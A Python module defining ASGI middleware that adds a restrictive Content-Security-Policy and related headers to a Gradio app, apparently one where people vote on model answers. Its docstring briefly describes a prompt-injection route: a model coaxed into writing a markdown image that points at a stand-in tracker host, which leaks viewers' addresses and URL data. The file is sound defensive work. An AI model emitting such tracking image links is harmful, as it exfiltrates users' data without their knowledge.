"""HTTP response headers that keep what models write from reaching beyond the page.

Why: answers are rendered as markdown, so a model (or a prompt that talks it
into it) can write ``![](https://tracker.example/?q=…)``. Gradio's sanitizer
removes scripts and event handlers, but an image from another host would
still be fetched by every voter's browser, leaking their address and whatever
the URL carries. The Content-Security-Policy below allows images, media and
frames from this server only; the page's own scripts and styles are not
restricted (Gradio relies on inline ones).
"""

from __future__ import annotations

from typing import Any, Awaitable, Callable

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; frame-src 'self'; object-src 'none'; base-uri 'self'"
)
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"no-referrer"),
)

Scope = dict[str, Any]
Message = dict[str, Any]


class SecurityHeaders:
    """ASGI middleware adding :data:`HEADERS` to every HTTP response (passed to Gradio through ``app_kwargs``)."""

    def __init__(self, app: Callable[..., Awaitable[None]]) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                present = {name.lower() for name, _ in message.get("headers", [])}
                message["headers"] = list(message.get("headers", [])) + [h for h in HEADERS if h[0] not in present]
            await send(message)

        await self.app(scope, receive, send_with_headers)
